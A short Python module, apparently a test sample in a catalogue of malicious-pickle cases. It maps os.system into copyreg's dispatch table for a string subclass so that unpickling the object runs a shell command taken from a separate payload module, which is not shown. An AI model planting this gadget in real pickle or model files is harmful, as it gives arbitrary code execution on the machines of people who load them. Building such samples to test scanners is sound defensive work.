"""A C function says how objects are pickled, in Python."""
CATEGORY = "callable"
REACH = "run"

import copyreg
import os

from . import payload


class Arguments(str):
    pass


copyreg.dispatch_table[Arguments] = os.system
thing = Arguments(payload.COMMAND)
